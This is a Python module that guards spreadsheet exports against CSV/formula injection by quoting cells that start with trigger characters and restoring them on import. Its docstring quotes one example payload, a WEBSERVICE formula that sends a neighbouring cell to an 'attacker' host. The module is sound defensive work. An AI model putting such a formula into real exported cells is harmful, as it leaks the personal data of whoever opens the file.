"""Cells that cannot attack whoever opens the spreadsheet.

Much of what Vigil exports was typed by someone else: a reporter's "where", a
defender's name, a company's name in a statistics table. A value such as
`=WEBSERVICE("http://attacker/?"&B3)` or `=HYPERLINK(...)` becomes a live formula in
Excel or LibreOffice when the file is opened, and can send the neighbouring cells
(names, places) to another host or run commands (CSV injection, as OWASP calls it).
So every CSV and XLSX cell Vigil writes goes through `neutralise`: a text that
begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading single
quote, which spreadsheets show as text and never evaluate; in XLSX the cell is also
written as a string, never a formula. Numbers (real ones, not text) are left alone,
so a negative count stays a number.

Vigil reads its own files back (exchange/importer.py): `restore` removes the quote
again. So that a value that itself began with a quote and a trigger survives the
round trip, such a value gets one more quote, and `restore` removes exactly one.
"""

import re
from collections.abc import Iterable
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_QUOTED = re.compile(r"'+[=+\-@\t\r]")


def neutralise(value: Any) -> Any:
    """`value` as a cell that no spreadsheet evaluates (text only; numbers as they are)."""
    if isinstance(value, str) and (value.startswith(TRIGGERS) or _QUOTED.match(value)):
        return "'" + value
    return value


def restore(value: Any) -> Any:
    """A cell read back from a file Vigil wrote, as it was before `neutralise`."""
    if isinstance(value, str) and _QUOTED.match(value):
        return value[1:]
    return value


def cells(row: Iterable[Any]) -> list[Any]:
    """A row for `csv.writer` or an XLSX sheet, every cell neutralised."""
    return [neutralise(value) for value in row]


def append(sheet: Any, row: Iterable[Any]) -> None:
    """Append a row to an openpyxl sheet: cells neutralised, text written as text.

    openpyxl takes any string that begins with `=` for a formula; after `neutralise`
    none does, and the type is set to string all the same, so that no later change
    can make a formula of a value."""
    sheet.append(cells(row))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
